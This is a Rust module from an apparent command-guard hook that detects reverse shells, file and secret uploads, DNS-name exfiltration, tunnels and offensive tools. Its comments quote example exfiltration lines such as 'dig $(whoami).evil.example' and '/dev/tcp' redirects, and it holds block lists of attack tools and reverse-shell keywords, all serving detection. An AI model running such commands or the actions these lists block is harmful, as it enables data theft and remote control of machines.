//! Data that leaves: uploads, pipes into the network, names that carry data, shells that call home.

use crate::hosts::{local, open_to_all};
use crate::programs::{interpreter, shell, targets};
use crate::url;
use hookbox_pack::touch::{self, Access, program};
use hookbox_pack::{Finding, Severity, spell};
use hookbox_sdk::{Event, SimpleCommand};

const SHELL: &str = "this hands a shell to another machine: nothing in this project needs that";
pub(crate) const UPLOAD: &str =
    "this sends files to another machine: ask the user where they should go, and let them run it";
const OPEN: &str = "this sends data to a place where anybody can leave and fetch it: use a host of the project";
const NAMES: &str =
    "this puts data into a name that is looked up, which carries it to whoever owns the domain: look up plain names";
const TUNNEL: &str = "this opens this machine to the internet: ask the user to do it";

const ATTACK: &str = "this is a tool for attacking or mining with machines: ask the user for it, and let them run it";

/// Programs that are there to break into machines or to use them up; sorted.
const ATTACKERS: &[&str] = &[
    "aircrack-ng",
    "bettercap",
    "cgminer",
    "crackmapexec",
    "ettercap",
    "evil-winrm",
    "hashcat",
    "hping3",
    "hydra",
    "john",
    "medusa",
    "mimikatz",
    "minerd",
    "msfconsole",
    "msfvenom",
    "ncrack",
    "netexec",
    "responder",
    "slowloris",
    "sqlmap",
    "xmrig",
];

/// What one command sends.
pub(crate) fn judge(event: &Event, command: &SimpleCommand, line: &[SimpleCommand], findings: &mut Vec<Finding>) {
    if calls_home(command, line) {
        findings.push(Finding::new("reverse-shell", Severity::Block, SHELL));
        return;
    }
    let name = program(command);
    if ATTACKERS.binary_search(&name.as_str()).is_ok() && !command.args().is_empty() {
        findings.push(Finding::new("attack-tool", Severity::Ask, ATTACK));
    }
    if tunnels(&name, command) {
        findings.push(Finding::new("tunnel", Severity::Ask, TUNNEL));
    }
    if names_carry_data(&name, command) {
        findings.push(Finding::new("data-in-name", Severity::Block, NAMES));
    }
    let hosts = targets(command);
    let away = hosts.is_empty() || hosts.iter().any(|target| !local(&target.host));
    if let Some(severity) = raw(&name, command, line).filter(|_| away) {
        findings.push(Finding::new("raw-send", severity, UPLOAD));
    }
    if !sends(&name, command) || !away {
        return;
    }
    if hosts.iter().any(open_to_all) {
        findings.push(Finding::new("send-to-open-host", Severity::Block, OPEN));
    }
    if url_carries_data(command) {
        findings.push(Finding::new("data-in-url", Severity::Block, UPLOAD));
    }
    if let Some(severity) = upload(event, command, line) {
        findings.push(Finding::new("upload", severity, UPLOAD));
    }
}

/// Whether a program's text sends what it reads: a file, the environment.
pub(crate) fn code_sends(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let any = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    let sends = any(&[
        "requests.post",
        "requests.put",
        "httpx.post",
        "urlopen(",
        "fetch(",
        "http.post",
        "net::http",
        "axios.post",
    ]);
    let reads = any(&[
        "open('/",
        "open(\"/",
        "open('~",
        "readfile",
        "file.read",
        "file_get_contents('/",
        "dict(os.environ",
        "str(os.environ",
        "dumps(os.environ",
        "stringify(process.env",
        "env.to_h",
    ]);
    // A variable that becomes part of the address.
    let grows = any(&["os.environ", "process.env", "env["]) && any(&["?'+", "?\"+", "='+", "=\"+", "/'+", "/\"+"]);
    sends && (reads || grows)
}

/// Programs that can send over HTTP and the like.
fn sends(name: &str, command: &SimpleCommand) -> bool {
    match name {
        "curl" | "curlie" | "http" | "https" | "xh" | "wget" | "wget2" | "invoke-webrequest" | "invoke-restmethod"
        | "iwr" | "irm" => true,
        "scp" | "sftp" | "ftp" | "lftp" | "rsync" => true,
        "gh" => command.has_arg("gist"),
        _ => false,
    }
}

/// What an upload of this command is: by the files it names and by what is piped into it.
fn upload(event: &Event, command: &SimpleCommand, line: &[SimpleCommand]) -> Option<Severity> {
    let name = program(command);
    let mut worst = None;
    for touch in touch::touches(command)
        .iter()
        .filter(|touch| touch.access == Access::Send)
    {
        let path = spell::absolute(&touch.path.text, &event.cwd, &event.home);
        let copies = matches!(name.as_str(), "scp" | "rsync" | "sftp" | "ftp" | "lftp");
        let severity = if matches!(touch.path.text.as_str(), "-" | "/dev/stdin") {
            match source(command, line) {
                Some(severity) => severity,
                None => continue,
            }
        } else if outside(event, &path) && !copies {
            Severity::Block
        } else if copies {
            Severity::Strict
        } else if archive(&path) || posts_form(command) {
            Severity::Ask
        } else {
            Severity::Strict
        };
        worst = worst.max(Some(severity));
    }
    worst
}

/// Neither the project nor a temporary folder.
fn outside(event: &Event, path: &str) -> bool {
    let within = [
        event.project.as_str(),
        event.cwd.as_str(),
        "/tmp",
        "/var/tmp",
        "/var/folders",
        "/dev/shm",
    ];
    !path.contains(['$', '`'])
        && !within
            .iter()
            .any(|folder| !folder.is_empty() && *folder != "/" && spell::inside(path, folder))
}

fn archive(path: &str) -> bool {
    const ENDINGS: [&str; 18] = [
        "tar", "tgz", "gz", "zip", "7z", "bz2", "xz", "zst", "sql", "dump", "db", "sqlite", "sqlite3", "bak", "bundle",
        "kdbx", "pcap", "core",
    ];
    let name = spell::name(path).to_ascii_lowercase();
    name.rsplit_once('.')
        .is_some_and(|(_, ending)| ENDINGS.contains(&ending))
}

/// `-F`, `-T`: a whole file, and not the body of a request.
fn posts_form(command: &SimpleCommand) -> bool {
    command.args().iter().any(|word| {
        let text = word.text.as_str();
        ["-F", "-T", "--form", "--upload-file", "--post-file", "--body-file"]
            .iter()
            .any(|option| text.starts_with(option))
    })
}

/// What stands before a program that sends its input.
fn source(command: &SimpleCommand, line: &[SimpleCommand]) -> Option<Severity> {
    let (pipeline, place) = command.pipeline;
    let before = line
        .iter()
        .filter(|other| other.pipeline.0 == pipeline && other.pipeline.1 < place);
    before.filter_map(gathers).max()
}

/// Programs whose output is a lot of data, or data in disguise.
fn gathers(command: &SimpleCommand) -> Option<Severity> {
    let name = program(command);
    let severity = match name.as_str() {
        "tar" | "bsdtar" | "zip" | "7z" | "cpio" | "mysqldump" | "pg_dump" | "pg_dumpall" | "mongodump" | "sqlite3"
        | "env" | "printenv" | "history" | "dd" => Severity::Block,
        "base64" | "base32" | "xxd" | "od" | "hexdump" | "openssl" | "gpg" | "gzip" | "bzip2" | "xz" | "zstd" => {
            Severity::Block
        }
        "find" | "ls" | "ps" | "ifconfig" | "ip" | "whoami" | "id" | "uname" | "hostname" | "netstat" | "ss" => {
            Severity::Ask
        }
        "git" if command.has_arg("archive") || command.has_arg("bundle") => Severity::Block,
        "cat" | "head" | "tail" | "grep" | "awk" | "sed"
            if command
                .args()
                .iter()
                .any(|word| word.text.starts_with(['/', '~']) && !word.text.starts_with("/tmp/")) =>
        {
            Severity::Block
        }
        "cat" | "git" => Severity::Strict,
        _ => return None,
    };
    Some(severity)
}

/// `nc host port < file`, `cat file | nc host port`, `cat file > /dev/tcp/host/port`.
fn raw(name: &str, command: &SimpleCommand, line: &[SimpleCommand]) -> Option<Severity> {
    let to_socket = command.redirects.iter().find_map(|redirect| {
        let place = socket(&redirect.target.text)?;
        redirect.operator.contains('>').then_some(place)
    });
    if let Some(host) = to_socket {
        let silent = matches!(name, "echo" | ":" | "true" | "exec") && command.args().is_empty();
        return (!silent && !local(&url::host(host))).then_some(Severity::Block);
    }
    if !matches!(name, "nc" | "ncat" | "netcat" | "socat" | "telnet") {
        return None;
    }
    let only_looks = command.args().iter().any(|word| {
        let text = word.text.as_str();
        text.starts_with('-') && !text.starts_with("--") && text.contains(['z', 'l', 'h'])
    });
    // `socat stdio /run/haproxy.sock`: a socket of this machine.
    let here =
        |word: &hookbox_sdk::Word| word.text.starts_with('/') || word.text.to_ascii_lowercase().starts_with("unix");
    let at_home = name == "socat"
        && command.args().iter().any(here)
        && !command.args().iter().any(|word| word.text.contains(':') && !here(word));
    if only_looks || at_home {
        return None;
    }
    let from_file = command
        .redirects
        .iter()
        .any(|redirect| redirect.operator == "<" && redirect.target.text != "/dev/null");
    let (pipeline, place) = command.pipeline;
    let before: Vec<&SimpleCommand> = line
        .iter()
        .filter(|other| other.pipeline.0 == pipeline && other.pipeline.1 < place)
        .collect();
    let data = before
        .iter()
        .any(|other| !matches!(program(other).as_str(), "echo" | "printf" | "yes" | "true"));
    if from_file || data {
        return Some(Severity::Block);
    }
    (!before.is_empty()).then_some(Severity::Ask)
}

/// The host of `/dev/tcp/HOST/PORT`.
fn socket(path: &str) -> Option<&str> {
    let rest = path
        .strip_prefix("/dev/tcp/")
        .or_else(|| path.strip_prefix("/dev/udp/"))?;
    rest.split('/').next()
}

/// A shell at the other end of a connection.
fn calls_home(command: &SimpleCommand, line: &[SimpleCommand]) -> bool {
    let name = program(command);
    let args: Vec<&str> = command.args().iter().map(|word| word.text.as_str()).collect();
    let to_socket = command
        .redirects
        .iter()
        .any(|redirect| socket(&redirect.target.text).is_some());
    if to_socket && (shell(&name) || interpreter(&name)) {
        return true;
    }
    let both_ways = command.redirects.iter().any(|redirect| {
        redirect.operator.contains("<>") && socket(&redirect.target.text).is_some_and(|host| !local(&url::host(host)))
    });
    if both_ways && name == "exec" {
        return true;
    }
    match name.as_str() {
        "nc" | "ncat" | "netcat" => {
            let runs = args.iter().any(|arg| {
                let short = arg.starts_with('-') && !arg.starts_with("--");
                (short && arg[1..].contains(['e', 'c'])) || matches!(*arg, "--exec" | "--sh-exec" | "--lua-exec")
            });
            runs || beside_a_shell(command, line)
        }
        "socat" => {
            let lower = args.join(" ").to_ascii_lowercase();
            let other_end = ["tcp", "udp", "openssl", "sctp", "unix"]
                .iter()
                .any(|kind| lower.contains(kind));
            other_end && (lower.contains("exec:") || lower.contains("system:"))
        }
        "telnet" => beside_a_shell(command, line),
        "openssl" if args.contains(&"s_client") => beside_a_shell(command, line),
        _ if interpreter(&name) && !shell(&name) => {
            let text = args.join(" ").to_ascii_lowercase();
            let connects = [
                "socket",
                "tcpclient",
                "fsockopen",
                "tcpsocket",
                "net.connect",
                "net.socket",
                "/inet/tcp",
            ]
            .iter()
            .any(|word| text.contains(word));
            let shells = [
                "pty.spawn",
                "os.dup2",
                "/bin/sh",
                "/bin/bash",
                "subprocess",
                "child_process",
                "cmd.exe",
                "exec(\"sh",
                "exec 'sh",
                "shell_exec",
                "popen",
                "|&",
                "iex",
            ];
            connects && shells.iter().any(|word| text.contains(word))
        }
        _ => false,
    }
}

/// Whether a shell without a script stands in the same pipeline: it reads from the connection, or writes into it.
fn beside_a_shell(command: &SimpleCommand, line: &[SimpleCommand]) -> bool {
    let mut stages = line
        .iter()
        .filter(|other| other.pipeline.0 == command.pipeline.0 && other.pipeline.1 != command.pipeline.1);
    stages.any(|other| shell(&program(other)) && other.args().iter().all(|word| word.text.starts_with('-')))
}

/// `dig $(whoami).evil.example`: a part of a name comes from a command.
fn names_carry_data(name: &str, command: &SimpleCommand) -> bool {
    if !matches!(
        name,
        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "resolvectl" | "getent"
    ) {
        return false;
    }
    command.args().iter().any(|word| {
        let text = word.text.as_str();
        let end = text.rfind([')', '`', '}']).map(|at| &text[at + 1..]);
        !word.known
            && (text.contains("$(") || text.contains('`') || text.contains("${"))
            && end.is_some_and(|end| end.starts_with('.') && end.len() > 2)
    })
}

/// A URL or a body into which a command's output is put, where that output is data in disguise or a file.
fn url_carries_data(command: &SimpleCommand) -> bool {
    const GATHER: [&str; 15] = [
        "base64", "base32", "xxd", "od", "hexdump", "env", "printenv", "whoami", "id", "tar", "gzip", "openssl",
        "history", "set", "uname",
    ];
    command.args().iter().any(|word| {
        let text = word.text.as_str();
        if word.known || !(text.contains("$(") || text.contains('`')) {
            return false;
        }
        let inner = || text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '/' | '.' | '~')));
        let url = text.contains("://") || text.contains("?");
        let files = inner().any(|part| part == "cat" || part == "head" || part == "tail");
        let far = inner().any(|part| {
            part.starts_with("/etc/")
                || part.starts_with("~/")
                || part.starts_with("/home/")
                || part.starts_with("/root/")
                || part.starts_with("/proc/")
        });
        inner().any(|part| GATHER.contains(&part)) || (files && (url || far))
    })
}

/// Programs that make this machine reachable from outside.
fn tunnels(name: &str, command: &SimpleCommand) -> bool {
    let args = command.args();
    let first = args.first().map_or("", |word| word.text.as_str());
    match name {
        "ssh" | "autossh" => args.iter().any(|word| {
            word.text.starts_with("-R")
                || (word.text.starts_with('-')
                    && !word.text.starts_with("--")
                    && word.text.ends_with('R')
                    && word.text.len() < 6)
        }),
        "ngrok" => !matches!(
            first,
            "" | "version" | "help" | "config" | "update" | "--version" | "--help"
        ),
        "cloudflared" => {
            matches!(first, "tunnel" | "access")
                && !args
                    .get(1)
                    .is_some_and(|word| matches!(word.text.as_str(), "list" | "info" | "help" | "--help"))
        }
        "lt" | "localtunnel" | "bore" | "frpc" | "chisel" | "inlets" | "gsocket" | "gs-netcat" => !args.is_empty(),
        "tailscale" => first == "funnel",
        _ => false,
    }
}
